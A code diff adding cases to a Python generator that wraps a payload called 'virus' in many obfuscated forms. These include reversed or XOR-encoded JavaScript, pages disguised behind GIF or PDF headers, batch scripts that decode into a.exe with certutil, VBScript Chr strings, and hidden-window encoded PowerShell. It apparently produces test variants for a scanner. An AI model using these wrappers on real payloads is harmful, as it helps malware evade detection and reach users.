@@ -291,6 +291,22 @@ def put_together(virus, coded):
             b"'%s'" % coded[at:at + 4] for at in range(0, len(coded), 4)) + b";",
         "with line ends": b"var d = atob('" + b"\\r\\n".join(
             coded[at:at + 76] for at in range(0, len(coded), 76)) + b"');",
+        "in pieces, the last first": b"var d = [" + b",".join(
+            b"'%s'" % coded[at:at + 40] for at in reversed(range(0, len(coded), 40))) + b"].reverse().join('');",
+        "letters in braces": b"var d = '" + b"".join(b"\\u{%x}" % byte for byte in virus) + b"';",
+        "base64, letters in braces": b"var d = atob('" + b"".join(
+            b"\\u{%04x}" % letter for letter in coded) + b"');",
+        "some letters in octal": b"var d = '" + b"".join(
+            b"%c" % byte if chr(byte).isascii() and chr(byte).isalpha() else b"\\%03o" % byte for byte in virus) + b"';",
+        "base64, some letters in octal": b"var d = atob('" + b"".join(
+            b"%c" % letter if at % 3 else b"\\%o" % letter for at, letter in enumerate(coded)) + b"');",
+        "base64, blanks escaped": b"var d = atob('" + b"\\x20".join(
+            coded[at:at + 7] for at in range(0, len(coded), 7)) + b"');",
+        "numbers that were added to": b"var d = [" + b",".join(
+            b"%d" % ((byte + 200) % 256) for byte in virus) + b"];",
+        "bytes that were added to": b"var d = atob('" + base64.b64encode(
+            bytes((byte + 13) % 256 for byte in virus)) + b"');",
+        "numbers of base64 with a key": b"var d = [" + b",".join(b"%d" % (letter ^ 77) for letter in coded) + b"];",
         "with another sign": b"var d = atob('" + b"!".join(
             coded[at:at + 3] for at in range(0, len(coded), 3)) + b"'.split('!').join(''));",
     }
@@ -327,6 +343,22 @@ def put_together(virus, coded):
     yield "script: numbers", b"var d = [" + in_rows(virus, b"", b",") + b"];\n" + SAVE
     yield "script: letters", (b"Dim s\r\ns = " + b" & ".join(b"Chr(%d)" % byte for byte in virus)
                               + b"\r\nCreateObject(\"WScript.Shell\").Run s\r\n")
+    hidden = page(b"var d = atob('" + coded + b"');\n" + SAVE)
+    for what, before in (("a control sign", b"<!-- \1 -->"), ("a picture's head", b"GIF89a/*\0\0\0\0*/=1;"),
+                         ("a document's head", b"%PDF-1.4\n")):
+        yield f"page behind {what}", before + hidden
+    lines = [coded[at:at + 64] for at in range(0, len(coded), 64)]
+    decode = b"certutil -decode %temp%\\a %temp%\\a.exe\r\n"
+    for line in b"echo %s>>%%temp%%\\a", b">>a echo %s", b"set a1=%s", b":::%s":
+        yield f"script: {line.decode()}", (b"@echo off\r\n" + b"".join(line % one + b"\r\n" for one in lines)
+                                          + decode)
+    yield "script: lines of VBScript", (b"Set x = CreateObject(\"a\")\r\nx.dataType = \"bin.base64\"\r\ns = "
+                                        + b" & _\r\n    ".join(b'"%s"' % line for line in lines) + b"\r\n")
+    yield "script: numbers of VBScript", b"Dim s\r\ns = " + b" & ".join(
+        b"Chr(&H%02X)" % byte for byte in virus) + b"\r\n"
+    command = f"[IO.File]::WriteAllBytes('a.exe', [Convert]::FromBase64String('{coded.decode()}'))"
+    yield "script: a command of PowerShell", b"@echo off\r\npowershell -w hidden -e " + base64.b64encode(
+        command.encode("utf-16-le")) + b"\r\n"
     yield "script: bytes", b"[byte[]]$b = " + b",".join(
         b"0x%x" % byte for byte in virus) + b"\r\n[IO.File]::WriteAllBytes('a.exe', $b)\r\n"
 
